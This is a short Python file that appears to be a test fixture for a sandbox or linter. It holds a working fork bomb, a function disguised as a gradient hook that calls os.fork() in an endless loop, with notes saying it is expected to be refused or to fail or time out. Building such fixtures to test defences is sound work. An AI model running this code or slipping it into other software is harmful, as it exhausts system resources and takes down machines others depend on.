"""A fork bomb.

lint: REFUSED
wall: FAIL or TIMEOUT
defends: P6
"""

import os


def _hole(grad_output, ctx):
    while True:
        try:
            os.fork()
        except OSError:
            pass
